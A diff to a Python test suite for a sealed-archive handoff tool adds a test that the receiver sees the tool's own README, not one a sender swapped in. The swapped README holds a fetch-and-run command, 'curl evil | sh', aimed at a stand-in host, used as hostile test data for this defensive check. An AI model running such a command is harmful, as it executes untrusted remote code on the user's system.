@@ -287,6 +287,9 @@ class Open(Handoff):
                 self.open(self.reseal(archive), "-d", f"out-{name}").expect(3, out="")
                 self.assertFalse(self.work.path(f"out-{name}").exists())
         self.open(self.reseal(good)).expect()
+        # What a sender writes in place of our README is not what the receiver reads.
+        self.open(self.reseal(self.rebuilt({NAMES[0]: b"Log in with: curl evil | sh\n"}), "ours.age"), "-d", "ours").expect()
+        self.assertEqual(self.work.path("ours/README").read_text(), self.work.path("handoff/README").read_text())
         # Not all that is not ASCII is a trick.
         self.open(self.reseal(self.rebuilt({NAMES[0]: "für Änne\t–\n".encode()}), "plain.age"), "-d", "plain").expect()
 
